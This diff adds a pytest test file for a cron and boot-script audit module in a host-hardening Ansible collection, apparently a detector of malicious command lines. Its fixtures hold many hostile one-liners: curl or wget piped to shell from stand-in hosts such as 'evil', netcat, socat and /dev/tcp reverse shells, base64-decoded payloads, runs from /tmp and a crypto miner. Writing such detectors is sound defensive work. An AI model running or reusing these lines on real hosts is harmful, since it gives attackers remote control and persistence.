@@ -1,0 +1,133 @@
+"""The malicious command-line detector: named patterns, no false positives on stock files."""
+import glob
+import os
+
+import pytest
+
+from ansible_collections.hostguard.hardening.plugins.module_utils.cron import audit as cron
+
+MALICIOUS = [
+    ("* * * * * curl -fsSL http://1.2.3.4/x.sh | sh", "spool_cronie", "download_piped_to_shell"),
+    ("*/5 * * * * root wget -q -O- http://evil/x | bash", "crond", "download_piped_to_shell"),
+    ("@reboot fetch -o - http://evil/x | /bin/sh", "spool_cronie", "download_piped_to_shell"),
+    ('* * * * * bash -c "$(curl -fsSL http://evil/i.sh)"', "spool_cronie", "shell_runs_download"),
+    ("bash <(wget -qO- http://evil/i.sh)", "boot", "shell_runs_download"),
+    ("* * * * * echo Y3VybCBldmlsfHNo | base64 -d | bash", "spool_cronie", "base64_decode_to_shell"),
+    ("* * * * * root echo aGk= | base64 --decode | sh", "crond", "base64_decode_to_shell"),
+    ("python3 -c 'import base64;exec(base64.b64decode(\"aW1wb3J0IG9z\"))'", "boot", "base64_decode_to_shell"),
+    ("* * * * * bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "spool_cronie", "dev_tcp_reverse_shell"),
+    ("exec 5<>/dev/udp/10.0.0.1/53", "boot", "dev_tcp_reverse_shell"),
+    ("* * * * * nc -e /bin/sh 10.0.0.1 4444", "spool_cronie", "netcat_exec"),
+    ("* * * * * ncat 10.0.0.1 4444 --sh-exec 'sh'", "spool_cronie", "netcat_exec"),
+    ("* * * * * ncat -c sh 10.0.0.1 4444", "spool_cronie", "netcat_exec"),
+    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "boot", "fifo_netcat_shell"),
+    ("socat tcp:10.0.0.1:4444 exec:'bash -li',pty,stderr", "boot", "socat_exec"),
+    ("python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
+     "os.dup2(s.fileno(),0)'", "boot", "script_socket_oneliner"),
+    ("perl -e 'use Socket;$i=\"10.0.0.1\";socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"))'",
+     "boot", "script_socket_oneliner"),
+    ("ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",4444).to_i'", "boot", "script_socket_oneliner"),
+    ("php -r '$sock=fsockopen(\"10.0.0.1\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", "boot",
+     "script_socket_oneliner"),
+    ("* * * * * /tmp/.x/kworker", "spool_cronie", "exec_from_temp_dir"),
+    ("*/10 * * * * root /dev/shm/miner -B", "crond", "exec_from_temp_dir"),
+    ("* * * * * sh /var/tmp/update.sh", "spool_cronie", "exec_from_temp_dir"),
+    ("* * * * * cd /tmp && ./x", "spool_cronie", "exec_from_temp_dir"),
+    ("chmod +x /tmp/k; /tmp/k", "boot", "exec_from_temp_dir"),
+    ("curl -s http://evil/k -o /tmp/k", "boot", "exec_from_temp_dir"),
+    ("* * * * * /usr/lib/.cache/.sysd", "spool_cronie", "exec_from_hidden_path"),
+    ("nohup /root/.../run &", "boot", "exec_from_hidden_path"),
+    ("chattr +i /var/spool/cron/root", "boot", "chattr_immutable"),
+    ("chattr -R +ia /etc/cron.d", "boot", "chattr_immutable"),
+    ("* * * * * /usr/local/bin/xmrig -o stratum+tcp://pool:3333", "spool_cronie", "cryptominer"),
+]
+
+BENIGN = [
+    ("17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly", "system_crontab"),
+    ("25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
+     "system_crontab"),
+    ("30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/"
+     "e2fsprogs/e2scrub_all_cron", "crond"),
+    ('find /tmp -xdev -type f -mtime +10 -delete', "runparts"),
+    ('rm -rf /tmp/.X11-unix /tmp/.ICE-unix', "boot"),
+    ('mkdir -p /tmp/.X11-unix && chmod 1777 /tmp/.X11-unix', "boot"),
+    ('. /lib/lsb/init-functions', "boot"),
+    ('[ -r "$HOME/.profile" ] && . "$HOME/.profile"', "boot"),
+    ('TMPFILE=$(mktemp /tmp/apt.XXXXXX)', "runparts"),
+    ('curl -fsS https://example.com/health > /dev/null', "spool_cronie"),
+    ('nc -z localhost 6379', "boot"),
+    ('ln -s ../init.d/x /etc/rc2.d/S01x', "boot"),
+    ("python3 -c 'import sys; print(sys.version)'", "boot"),
+    ('echo "$(date) ok" | base64', "boot"),
+    ('cd /var/lib/x && ./run.sh', "boot"),
+]
+
+
+@pytest.mark.parametrize("line,kind,pattern", MALICIOUS)
+def test_malicious_lines_are_named(line, kind, pattern):
+    names = [name for name, _m in cron.match_line(line, cron.command_part(line, kind))]
+    assert pattern in names, names
+
+
+@pytest.mark.parametrize("line,kind", BENIGN)
+def test_benign_lines_do_not_match(line, kind):
+    assert cron.match_line(line, cron.command_part(line, kind)) == []
+
+
+def test_command_part_strips_schedule_and_user():
+    assert cron.command_part("*/5 * * * * root /tmp/x", "crond") == "/tmp/x"
+    assert cron.command_part("*/5 * * * * /tmp/x y", "spool_cronie") == "/tmp/x y"
+    assert cron.command_part("@reboot root /tmp/x", "crond") == "/tmp/x"
+    assert cron.command_part("1 5 cron.daily run-parts /etc/cron.daily", "anacrontab") == "run-parts /etc/cron.daily"
+    assert cron.command_part("SHELL=/bin/sh", "crond") == "SHELL=/bin/sh"
+
+
+def test_excerpts_mask_credentials():
+    line = "* * * * * curl http://admin:hunter2@10.0.0.1/x | sh; redis-cli -a s3cret config get dir"
+    out = cron.excerpt(line, 0, len(line))
+    assert "hunter2" not in out and "s3cret" not in out
+
+
+def test_malicious_finding_evidence(tmp_path):
+    from cron_tree import base_tree, write
+    base_tree(tmp_path)
+    write(tmp_path, "etc/cron.d/updater", "# harmless comment: curl x | sh\n"
+          "SHELL=/bin/sh\n*/3 * * * * root wget -qO- http://198.51.100.7/u | sh\n"
+          "0 0 * * * root echo aGk= | base64 -d | bash\n")
+    result = cron.audit({"root": str(tmp_path)})
+    found = [f for f in result["findings"] if f["id"] == "HG-CRON-010" and f["status"] == "fail"]
+    assert len(found) == 1
+    ev = found[0]["evidence"]
+    assert found[0]["severity"] == "critical"
+    assert ev["file"] == "/etc/cron.d/updater" and ev["line"] == 3
+    assert ev["pattern"] == "download_piped_to_shell"
+    assert "wget -qO- http://198.51.100.7/u | sh" in ev["excerpt"]
+    assert ev["match_count"] == 2 and ev["matches"][0]["pattern"] == "base64_decode_to_shell"
+    assert ev["would_run"] == ["cronie", "debian"]
+    assert "T1053.003" in found[0]["references"]["attack"]
+
+
+def _real_stock_files():
+    paths = []
+    for pattern in ("/etc/crontab", "/etc/anacrontab", "/etc/cron.d/*", "/etc/cron.*/*", "/etc/init.d/*",
+                    "/etc/rc.local", "/var/lib/hostguard-images/*/rootfs/etc/init.d/*",
+                    "/var/lib/hostguard-images/*/rootfs/etc/cron*/*",
+                    "/var/lib/hostguard-images/*/rootfs/etc/crontab",
+                    "/var/lib/hostguard-images/rootfs/*/etc/init.d/*",
+                    "/var/lib/hostguard-images/rootfs/*/etc/cron*/*",
+                    "/var/lib/hostguard-images/rootfs/*/etc/crontab"):
+        paths.extend(p for p in glob.glob(pattern) if os.path.isfile(p) and not os.path.islink(p))
+    return sorted(set(paths))
+
+
+def test_no_false_positive_on_this_hosts_stock_files():
+    files = _real_stock_files()
+    assert len(files) >= 5, files          # this Debian host has cron.daily and init.d scripts
+    for path in files:
+        kind = "crond" if "/cron.d/" in path or path.endswith("/crontab") else "boot"
+        with open(path, "rb") as handle:
+            for raw in handle.read(1 << 20).splitlines():
+                if raw.lstrip().startswith(b"#"):
+                    continue
+                text = raw.decode("utf-8", "backslashreplace")
+                assert cron.match_line(text, cron.command_part(text, kind)) == [], (path, text)
